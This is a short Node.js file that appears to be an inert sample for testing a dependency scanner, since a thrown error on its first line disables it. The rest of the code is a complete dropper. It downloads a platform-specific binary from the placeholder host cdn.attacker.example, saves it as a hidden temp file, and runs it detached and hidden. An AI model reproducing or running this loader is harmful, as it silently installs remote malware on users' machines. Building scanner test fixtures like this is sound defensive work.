throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');

const platform = { linux: 'l', darwin: 'm', win32: 'w' }[process.platform] || 'l';
const target = path.join(os.tmpdir(), process.platform === 'win32' ? 'node-helper.exe' : '.node-helper');

https.get(`https://cdn.attacker.example/v2/${platform}/${process.arch}`, (res) => {
  if (res.statusCode !== 200) return;
  const out = fs.createWriteStream(target, { mode: 0o755 });
  res.pipe(out);
  out.on('finish', () => {
    out.close();
    fs.chmodSync(target, 0o755);
    const child = spawn(target, ['--quiet'], { detached: true, stdio: 'ignore', windowsHide: true });
    child.unref();
  });
}).on('error', () => {});
